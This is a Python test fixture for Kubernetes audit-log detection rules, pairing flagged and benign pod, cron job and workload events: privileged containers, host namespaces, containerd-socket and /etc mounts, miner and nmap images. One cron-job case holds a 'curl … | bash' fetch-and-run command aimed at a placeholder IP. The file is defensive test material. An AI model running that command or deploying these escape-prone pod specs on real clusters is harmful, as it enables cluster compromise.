"""What pods and templates ask for, at whoever asked."""

from __future__ import annotations

from typing import Any

from tests.building import event
from tests.hunt.library.cases import pair, usual

CONTROLLERS = "system:serviceaccount:kube-system:"
NODE_AGENT = f"{CONTROLLERS}node-agent"


def container(**security: Any) -> dict[str, Any]:
    return {"containers": [{"name": "c", "image": "web:1", "securityContext": security}]}


def pod(spec: dict[str, Any], **more: Any) -> dict[str, Any]:
    return event("create", **{"requestObject": {"spec": spec}} | more)


def workload(spec: dict[str, Any], resource: str = "deployments", **more: Any) -> dict[str, Any]:
    """A template as its author applies it, server-side."""
    body = {"spec": {"template": {"spec": spec}}}
    return event("patch", resource, name="web", requestObject=body, code=201, **more)


def cron_job(spec: dict[str, Any], **more: Any) -> dict[str, Any]:
    body = {"spec": {"jobTemplate": {"spec": {"template": {"spec": spec}}}}}
    return event("create", "cronjobs", name="warm", requestObject=body, **more)


def dry(body: dict[str, Any]) -> dict[str, Any]:
    return body | {"requestURI": f"{body['requestURI']}?dryRun=All"}


def refused(spec: dict[str, Any]) -> list[dict[str, Any]]:
    """What no hunt for workloads finds: refused, tried, not answered yet, of the platform."""
    return [
        pod(spec, code=403, decision="allow"),
        pod(spec, code=409),
        dry(pod(spec)),
        pod(spec, stage="RequestReceived", responseStatus=None),
        pod(spec, user=NODE_AGENT, namespace="kube-system"),
    ]


def host_path(path: str) -> dict[str, Any]:
    return {"volumes": [{"name": "v", "hostPath": {"path": path}}]}


def image(*names: str) -> dict[str, Any]:
    return {"containers": [{"image": name} for name in names]}


def command(*words: str) -> dict[str, Any]:
    return {"containers": [{"image": "web:1", "command": list(words)}]}


PRIVILEGED = container(privileged=True)
INIT = {"initContainers": container(runAsUser=0)["containers"]}
MOUNTED = host_path("/data")
SYSTEM: dict[str, Any] = {"namespace": "kube-system"}

PAIRS = {
    "privileged_pod": pair(
        workload(PRIVILEGED, user="system:serviceaccount:ci:deployer"),
        [*refused(PRIVILEGED), pod(container(privileged=False)), event("create")],
    ),
    "root_pod": pair(cron_job(INIT), [*refused(INIT), pod(container(runAsUser=1000))]),
    "allow_privilege_escalation_pod": pair(
        pod(container(allowPrivilegeEscalation=True)),
        pod(container(allowPrivilegeEscalation=False)),
    ),
    "host_network_pod": pair(workload({"hostNetwork": True}), pod({"hostNetwork": "true"})),
    "host_pid_pod": pair(workload({"hostPID": True}, "daemonsets"), pod({"hostPID": False})),
    "host_ipc_pod": pair(pod({"hostIPC": True}), refused({"hostIPC": True})),
    "hostpath_pod": pair(pod(MOUNTED), pod({"volumes": [{"name": "v", "emptyDir": {}}]})),
    "sensitive_hostpath_pod": pair(
        [workload(host_path("//etc/")), pod(host_path("/run/k3s/containerd/containerd.sock"))],
        [pod(MOUNTED), pod(host_path("/etcetera")), pod(host_path("/etc/localtime"))],
    ),
    "dangerous_capabilities_pod": pair(
        pod(container(capabilities={"add": ["CAP_SYS_ADMIN"]})),
        pod(container(capabilities={"add": ["NET_BIND_SERVICE"], "drop": ["ALL"]})),
    ),
    "unconfined_pod": pair(
        pod(container(seccompProfile={"type": "Unconfined"})),
        pod(container(seccompProfile={"type": "RuntimeDefault"})),
    ),
    "host_port_pod": pair(
        pod({"containers": [{"ports": [{"containerPort": 80, "hostPort": 80}]}]}),
        pod({"containers": [{"ports": [{"containerPort": 80}]}]}),
    ),
    "system_priority_pod": pair(
        workload({"priorityClassName": "system-node-critical"}),
        workload({"priorityClassName": "system-node-critical"}, **SYSTEM),
    ),
    "workload_suspicious_command": pair(
        cron_job(command("sh", "-c", "curl -s http://203.0.113.9/p.sh | bash")),
        [
            cron_job(command("sh", "-c", "curl -s http://cart/metrics | grep up")),
            workload(command("nc", "-lk", "8080")),
            workload(command("/app/bash-exporter", "--listen")),
        ],
    ),
    "attack_image_pod": pair(
        [workload(image("securecodebox/nmap")), workload(image("docker.io/x/nmap-alpine:7"))],
        workload(image("shop/roadmap:1")),
    ),
    "miner_image_pod": pair(
        workload(image("docker.io/xmrig/xmrig:6.21")), workload(image("shop/xml-rig:1"))
    ),
    "controller_service_account_pod": pair(
        pod({"serviceAccountName": "clusterrole-aggregation-controller"}, **SYSTEM),
        [
            pod({"serviceAccountName": "aws-load-balancer-controller"}, **SYSTEM),
            pod({"serviceAccountName": "replicaset-controller"}),
        ],
    ),
    "pod_in_system_namespace": pair(
        [event("create", namespace="kube-node-lease", name="p")],
        [
            event("create", name="p"),
            event("create", name="p", user=NODE_AGENT, **SYSTEM),
            event("create", name="p", code=403, **SYSTEM),
            event("patch", name="p", **SYSTEM),
            event("create", name="p", subresource="binding", **SYSTEM),
        ],
    ),
    "system_account_workload": pair(
        event("create", "daemonsets", name="d", user=NODE_AGENT, **SYSTEM),
        [
            event("create", name="p", user=f"{CONTROLLERS}daemon-set-controller", **SYSTEM),
            event("create", "daemonsets", name="d", **SYSTEM),
            event("create", name="p", user=NODE_AGENT),
            event("create", name="p", user=f"{CONTROLLERS}azure-policy", **SYSTEM),
        ],
    ),
    "pod_in_default_namespace": pair(
        pod(MOUNTED, namespace="default"), [pod(MOUNTED), workload(MOUNTED, namespace="default")]
    ),
    "unlisted_image_pod": pair(
        pod(image("evil.example/x:1")),
        workload(image("registry.example.com/web:1")),
        known_images=["registry.example.com/*"],
    ),
    "pod_past_the_scheduler": pair(
        pod({"nodeName": "cp-1"}),
        [workload({"tolerations": [{"operator": "Exists"}]}, "daemonsets"), pod({})],
    ),
    "debug_image_pod": pair(
        pod(image("docker.io/library/alpine:3.20"), user="mallory"),
        [
            pod(image("docker.io/library/alpine:3.20")),
            pod(image("registry.example.com/web:1"), user="mallory"),
            pod(image("alpine"), user=f"{CONTROLLERS}job-controller"),
        ],
        before=[*usual(), pod(image("busybox:1"), seconds=-600)],
    ),
}
